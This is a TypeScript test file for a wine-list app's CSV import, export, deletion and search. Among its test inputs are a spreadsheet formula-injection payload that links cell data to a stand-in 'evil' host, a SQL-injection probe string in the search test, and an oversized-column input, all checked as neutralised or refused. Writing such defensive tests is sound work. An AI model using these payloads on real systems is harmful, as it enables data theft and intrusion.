import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { emptyWine, type WineDocument } from '@rose/core/wine/facts';
import type { Member } from '../command';
import { Problem } from '../problem';
import type { News } from '../live/announce';
import { hear, stopListening } from '../live/listener';
import { newMember, ownDatabase, run } from '../testing/venue';
import { deleteWine, importWines, restoreWine } from './commands';
import { exportWines, hangsOn, listWines } from './queries';
import { guessMapping, readList, writeList } from './wine-list-file';

let drop: () => Promise<void>;
let owner: Member;
beforeAll(async () => {
  drop = await ownDatabase();
});
afterAll(() => drop());

interface Report {
  added: number;
  merged: number;
  skipped: number;
  ready: number;
  rows: number;
  errorCount: number;
  sameCount: number;
  errors: { row: number; field: string }[];
}
const take = (csv: string, more: object = {}): Promise<Report> => run(importWines, owner, { csv, preview: false, ...more });
const count = async () => ((await run(listWines, owner, {})) as { count: number }).count;
const refused = (promise: Promise<unknown>): Promise<Problem> =>
  promise.then(
    () => Promise.reject(new Error('was not refused')),
    (error: unknown) => (error instanceof Problem ? error : Promise.reject(error)),
  );

describe('a wine list from CSV', () => {
  it('reads commas, semicolons and tabs, a byte-order mark, quotes in quotes, and decimal commas', async () => {
    owner = await newMember();
    const lists = [
      'Wine,Producer,Year,Grapes,Alcohol,Price\n"Slate, Wire","Haus ""am"" Steg",2022,Riesling,12.5,19.50',
      '\uFEFFWine;Producer;Year;Grapes;Alcohol;Price\r\n"Slate; Wire";Haus am Steg;2021;Riesling;12,5;19,50\r\n',
      'Wine\tProducer\tYear\tGrapes\tAlcohol\tPrice\nSlate Wire\tHaus am Steg\tNV\tRiesling 85 %, Silvaner\t12.5 % vol\t€ 19.50',
    ];
    const documents = lists.flatMap((csv) => readList(csv, {}, 'EUR').rows.map((row) => row.document));
    expect(documents.map((document) => document.name)).toEqual(['Slate, Wire', 'Slate; Wire', 'Slate Wire']);
    expect(documents[0]!.producer).toBe('Haus "am" Steg');
    for (const document of documents)
      expect([document.facts.abv?.value, document.lots[0]?.priceMinor, document.lots[0]?.currency]).toEqual([12.5, 1950, 'EUR']);
    expect(documents.map((document) => document.facts.vintage?.value.kind)).toEqual(['year', 'year', 'none']);
    expect(documents[2]!.facts.grapes?.value).toEqual([
      { grape: 'Riesling', share: { kind: 'exact', percent: 85 } },
      { grape: 'Silvaner', share: { kind: 'unknown' } },
    ]);
    expect(guessMapping(['Cuvée', 'Winery', 'Bottles', 'Nothing like it'])).toEqual({ Cuvée: 'name', Winery: 'producer', Bottles: 'held' });
  });
  it('says of every fact where it comes from, as it was said of the list, or of its column; and names in the preview what a figure is of', async () => {
    owner = await newMember();
    const csv = 'name,abv,sugar,acidity,leesMonths,woodMonths,oak\nSlate Wire,12,7,6,14,14,used';
    await take(csv, { origin: 'merchant' }).then(
      () => expect.unreachable(),
      (error: unknown) => expect(error).toMatchObject({ status: 422 }),
    );
    const [row] = readList(csv, {}, 'EUR', { all: 'maker', columns: { abv: 'label' } }).rows;
    expect(Object.entries(row!.document.facts).map(([id, stated]) => [id, stated?.origin])).toEqual([
      ['abv', 'label'],
      ['sugar', 'maker'],
      ['acidity', 'maker'],
      ['oak', 'maker'],
      ['woodMonths', 'maker'],
      ['leesMonths', 'maker'],
    ]);
    expect(row!.says.replaceAll('\u00a0', ' ')).toBe(
      'alcohol 12 % vol · sugar 7 g/L · total acidity, as tartaric 6 g/L · used oak · in wood 14 months · on the lees 14 months',
    );
    // Of what nobody said where it comes from, nothing better is claimed than that somebody said so.
    expect(readList(csv, {}, 'EUR').rows[0]!.document.facts.sugar?.origin).toBe('hearsay');
  });
  it('a price that names no currency is in the venue’s; a sign is read as the venue’s own where it has that sign', () => {
    const priced = (price: string, usual: string) => {
      const { currency, priceMinor } = readList(`name,price\nA wine,"${price}"`, {}, usual).rows[0]!.document.lots[0]!;
      return [currency, priceMinor];
    };
    expect(priced('19.50', 'USD')).toEqual(['USD', 1950]);
    expect(priced('$19.50', 'AUD')).toEqual(['AUD', 1950]);
    expect(priced('$19.50', 'EUR')).toEqual(['USD', 1950]);
    expect(priced('£19.50', 'USD')).toEqual(['GBP', 1950]);
    expect(priced('CHF 19.50', 'EUR')).toEqual(['CHF', 1950]);
  });
  it('a file with more columns than a wine list has is refused before its headings are read', () => {
    const wide = `name${','.repeat(1_700_000)}\nx`;
    expect(() => readList(wide, {}, 'EUR')).toThrow(/columns/);
    expect(() => readList(`name${','.repeat(150)}\nx`, {}, 'EUR')).not.toThrow();
  });
  it('a text that a spreadsheet would take for a formula is kept from it, and reads back as it was', () => {
    for (const name of ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', "'plain", 'plain']) {
      const written = writeList([{ ...emptyWine, name }]);
      expect(written).not.toMatch(/^[=+\-@]|(?<=[\r\n,"])[=+\-@]/);
      expect(readList(written, {}, 'EUR').rows[0]!.document.name).toBe(name);
    }
  });
  it('imports all or nothing: with 30 % bad rows every bad field is named and no wine is added', async () => {
    owner = await newMember();
    const rows = Array.from({ length: 100 }, (_, i) =>
      i % 10 < 3 ? `Bad ${i},,${['last year', '99', '2020'][i % 10]},${i % 10 === 2 ? 'strong' : '12'}` : `Good ${i},Maker,2020,12.5`,
    );
    const csv = `name,producer,vintage,abv\n${rows.join('\n')}`;
    const preview = await take(csv, { preview: true });
    expect(preview).toMatchObject({ rows: 100, ready: 70, errorCount: 30 });
    expect(preview.errors[0]).toMatchObject({ row: 2, field: 'vintage' });
    expect((await refused(take(csv))).more['errors']).toHaveLength(30);
    expect(await count()).toBe(0);
  });
  it('takes 2,000 rows, and refuses 2,001', async () => {
    owner = await newMember();
    const csv = (n: number) =>
      `name,producer,vintage,format,held\n${Array.from({ length: n }, (_, i) => `Wine ${i},Maker ${i % 50},20${String(i % 20).padStart(2, '0')},750,${i % 7}`).join('\n')}`;
    expect(await take(csv(2000))).toMatchObject({ added: 2000 });
    expect(await count()).toBe(2000);
    expect((await refused(take(csv(2001)))).message).toContain('2000');
    const again = await refused(take(csv(2000)));
    expect(again.status).toBe(409);
    expect(await count()).toBe(2000);
    expect(await take(csv(2000), { same: 'skip' })).toMatchObject({ added: 0, skipped: 2000 });
    expect(await count()).toBe(2000);
  }, 120_000);
  it('asks “same wine?” by producer, name and vintage, and can add the bottles to the wine here', async () => {
    owner = await newMember();
    await take('name,producer,vintage,format,held\nCaldera Ledge,Mikri Vigla,2023,750,3');
    const same = 'name,producer,vintage,format,held\nCALDERA LEDGE,mikri vigla,2023,1500,1\nCaldera Ledge,Mikri Vigla,2022,750,2';
    expect(await take(same, { preview: true })).toMatchObject({ sameCount: 1 });
    expect(await take(same, { same: 'merge' })).toMatchObject({ added: 1, merged: 1 });
    const wines = (await run(exportWines, owner, { format: 'json' })) as WineDocument[];
    expect(
      wines.find((wine) => wine.facts.vintage?.value.kind === 'year' && wine.facts.vintage.value.year === 2023)!.lots.map((lot) => [lot.formatMl, lot.held]),
    ).toEqual([
      [750, 3],
      [1500, 1],
    ]);
    expect(await count()).toBe(2);
  });
  it('tells whoever has a wine open that bottles of a list were added to it', async () => {
    owner = await newMember();
    const said: News[] = [];
    await new Promise<void>((listening) => hear({ news: (one) => void said.push(one), back: listening }));
    try {
      const list = 'name,producer,vintage,format,held\nSlate Wire,Haus am Steg,2022,750,6';
      await take(list);
      await take(list, { same: 'merge' });
      await expect.poll(() => said).toMatchObject([{ what: 'document', kind: 'wine', venueId: owner.venueId, revision: 2 }]);
    } finally {
      await stopListening();
    }
  });
  it('says so when it is not UTF-8, not CSV, has no name column, or is empty', async () => {
    for (const [csv, says] of [
      ['name\nCh\uFFFDteau', 'UTF-8'],
      ['name,producer\n"never closed', 'CSV'],
      ['what,why\nx,y', 'name'],
      ['name,producer', 'no wines'],
    ] as const)
      expect((await refused(take(csv))).message).toContain(says);
  });
  it('what is exported as CSV or JSON reads back as the same wines', async () => {
    owner = await newMember();
    const facts = (values: Record<string, unknown>) =>
      Object.fromEntries(Object.entries(values).map(([id, value]) => [id, { value, origin: 'label' }])) as WineDocument['facts'];
    const wine: WineDocument = {
      schema: 1,
      name: 'Black "Scree", old',
      producer: 'Vento; Alto',
      remark: 'two\nlines',
      lots: [{ id: '01a210c2-a89c-7009-b51c-ce3807d93220', formatMl: 750, held: 5, priceMinor: 3450, currency: 'EUR', merchant: 'a, b', bought: '2026-09-01' }],
      facts: facts({
        colour: 'red',
        bubbles: 'still',
        vintage: { kind: 'several', from: 2015, to: 2018 },
        grapes: [
          { grape: 'Nerello Mascalese', share: { kind: 'exact', percent: 85 } },
          { grape: 'Nerello Cappuccio', share: { kind: 'some' } },
          { grape: 'Other', share: { kind: 'between', low: 2, high: 5 } },
        ],
        abv: 13.5,
        filtered: false,
        fortified: false,
        closure: 'cork',
        oak: 'some',
        country: 'IT',
      }),
    };
    const back = readList(writeList([wine]), {}, 'EUR', { all: 'label', columns: {} });
    expect(back.errors).toEqual([]);
    expect(back.rows.map(({ document }) => ({ ...document, lots: document.lots.map((lot) => ({ ...lot, id: wine.lots[0]!.id })) }))).toEqual([wine]);
    const json = readList(JSON.stringify([wine]), {}, 'EUR');
    expect(json.rows[0]!.document.facts).toEqual(wine.facts);
  });
});

describe('deleting a wine', () => {
  it('says what hangs on it, keeps it findable as deleted, and can be undone', async () => {
    owner = await newMember();
    await take('name,producer,held\nNight Ferry,Haus am Steg,4');
    const [wine] = ((await run(listWines, owner, {})) as { items: { id: string }[] }).items;
    expect(await run(hangsOn, owner, { id: wine!.id })).toEqual({ notes: 0, flights: [], bottles: 4 });
    await run(deleteWine, owner, { id: wine!.id });
    expect(await count()).toBe(0);
    await run(restoreWine, owner, { id: wine!.id });
    expect(await count()).toBe(1);
  });
  it('the list searches without accents, filters and sorts', async () => {
    owner = await newMember();
    await take(
      'name,producer,vintage,colour,abv,country,grapes\nÉtoile,Kőrakás,2020,white,12,HU,Furmint\nZephyr,Alto,2018,red,14,IT,Nerello Mascalese\nalba,Alto,,red,13,IT,Barbera',
    );
    const names = async (input: object) => ((await run(listWines, owner, input)) as { items: { name: string }[] }).items.map((item) => item.name);
    expect(await names({ q: 'etoile korakas' })).toEqual(['Étoile']);
    expect(await names({ q: 'nerello' })).toEqual(['Zephyr']);
    expect(await names({ colour: 'red', sort: 'alcohol', direction: 'down' })).toEqual(['Zephyr', 'alba']);
    expect(await names({ sort: 'vintage' })).toEqual(['Zephyr', 'Étoile', 'alba']);
    expect(await names({ country: 'it' })).toEqual(['alba', 'Zephyr']);
    expect(await names({ q: "x' or '1'='1" })).toEqual([]);
  });
});
